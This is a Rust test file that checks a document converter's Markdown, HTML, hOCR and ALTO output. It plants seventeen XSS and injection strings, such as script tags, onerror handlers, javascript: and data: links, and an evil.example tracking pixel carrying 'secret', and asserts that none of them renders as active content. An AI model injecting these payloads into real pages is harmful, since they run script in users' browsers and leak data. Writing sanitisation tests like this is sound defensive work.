//! Documents that want to be more than text: whatever they say, nothing of it may run, load or lead
//! anywhere where their markdown or HTML is shown.

use pulldown_cmark::{Event, Options, Parser, Tag};

use super::markdown::tests::{block, document, item, paragraph};
use super::table::tests::table;
use super::{MarkdownOptions, TableFormat, alto, hocr, html, inspect, markdown};
use crate::document::{
    Block, Document, Enrichment, ListMarker, PictureDescription, PictureFacts, Role,
};
use crate::options::Profile;

const TEXTS: [&str; 17] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</pre></td></table><svg onload=alert(1)>",
    "\"><iframe src=//evil.example></iframe>",
    "![pixel](http://evil.example/?q=secret)",
    "[![pixel](http://evil.example/a.png)](javascript:alert(1))",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[x\\](http://evil.example)",
    "[x\\\\](http://evil.example)",
    "[ref]: http://evil.example/a.png",
    "![ref] and ![ref][] and [ref]",
    "<http://evil.example/>",
    "<1@evil.example>",
    "<!-- --><b>",
    "` ``` ~~~ <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&#60;/script&#62;",
];

fn described(text: &str) -> Block {
    let description = PictureDescription { text: text.to_owned(), model: String::new() };
    let facts = PictureFacts { description: Some(description), ..PictureFacts::default() };
    Block { enrichment: Some(Box::new(Enrichment::Picture(facts))), ..block(Role::Figure, text) }
}

/// Each text in every place that a document has for text.
fn hostile() -> Document {
    let mut blocks = Vec::new();
    for text in TEXTS {
        blocks.push(block(Role::Heading { level: 2 }, text));
        blocks.push(paragraph(text));
        blocks.push(item(ListMarker::Bullet, 0, text));
        blocks.push(item(ListMarker::Letter(text.to_owned()), 1, text));
        blocks.push(paragraph(text));
        blocks.push(block(Role::Caption, text));
        blocks.push(described(text));
        blocks.push(block(Role::Code, text));
        blocks.push(block(Role::Formula { latex: None }, text));
        blocks.push(block(Role::Formula { latex: Some(text.to_owned()) }, text));
        blocks.push(block(Role::Footnote, text));
        blocks.push(block(Role::Table { table: table(&[&[text, "a"], &["b", text]]) }, ""));
        let mut wide = table(&[&[text, "a"], &["b", text]]);
        wide.cells.remove(1);
        wide.cells[0].column_span = 2;
        blocks.push(block(Role::Table { table: wide }, ""));
    }
    let mut document = document(vec![blocks]);
    document.name = Some(TEXTS.concat());
    document.metadata.title = Some(TEXTS.concat());
    document.language = Some(TEXTS[3].to_owned());
    document
}

/// Tags that tables and pictures are written with, and nothing in them but spans.
fn is_ours(tag: &str) -> bool {
    let tag = tag.trim_start_matches('/');
    let (name, rest) = tag.split_once(' ').unwrap_or((tag, ""));
    let table = ["table", "thead", "tbody", "tr", "td", "th"].contains(&name);
    let spans = rest.split_whitespace().all(|attribute| {
        let value = attribute.trim_start_matches("rowspan=").trim_start_matches("colspan=");
        value.trim_matches('"').bytes().all(|b| b.is_ascii_digit())
    });
    table && spans
}

/// What stands between `<` and `>`, where HTML takes it for a tag.
fn tags(text: &str) -> Vec<&str> {
    let opens =
        |part: &&str| part.starts_with(|c: char| c.is_ascii_alphabetic() || "/!?".contains(c));
    text.split('<')
        .skip(1)
        .filter(opens)
        .map(|part| part.split('>').next().unwrap_or(part))
        .collect()
}

#[test]
fn markdown_of_a_hostile_document_is_text() {
    let document = hostile();
    let dialects = [
        Options::ENABLE_TABLES | Options::ENABLE_GFM | Options::ENABLE_STRIKETHROUGH,
        Options::ENABLE_TABLES,
        Options::empty(),
    ];
    for profile in [Profile::Full, Profile::Docling] {
        for tables in [TableFormat::Auto, TableFormat::Markdown, TableFormat::Html] {
            let options = MarkdownOptions {
                profile,
                tables,
                image_placeholder: String::new(),
                ..MarkdownOptions::default()
            };
            let source = markdown(&document, &options);
            for dialect in dialects {
                for event in Parser::new_ext(&source, dialect) {
                    match event {
                        Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                            panic!("{profile:?} {tables:?}: leads to {dest_url}")
                        }
                        Event::Html(text) | Event::InlineHtml(text) => {
                            for tag in tags(&text) {
                                assert!(is_ours(tag), "{profile:?} {tables:?}: <{tag}>");
                            }
                        }
                        _ => {}
                    }
                }
            }
        }
    }
}

#[test]
fn html_of_a_hostile_document_is_text() {
    let document = hostile();
    let report = inspect(&document, |_| None).unwrap();
    let pages = [
        html(&document, Profile::Full),
        html(&document, Profile::Docling),
        hocr(&document),
        alto(&document),
        report,
    ];
    for page in pages {
        let mut scripts = 0;
        for tag in tags(&page) {
            let (name, attributes) = tag.split_once([' ', '\n']).unwrap_or((tag, ""));
            scripts += usize::from(name == "script");
            assert!(!["iframe", "http:"].contains(&name), "<{tag}>");
            // Within the quotes of an attribute it is text.
            let outside: String = attributes.split('"').step_by(2).collect();
            for active in ["onerror", "onload", "javascript", "evil"] {
                assert!(!outside.contains(active), "<{tag}>");
            }
            for address in ["src=", "href="] {
                assert!(!outside.contains(address), "<{tag}>");
            }
        }
        // The report has one of its own.
        assert_eq!(scripts, page.matches("<script>\n").count(), "{page}");
        assert!(!page.contains("<script>alert"));
    }
}
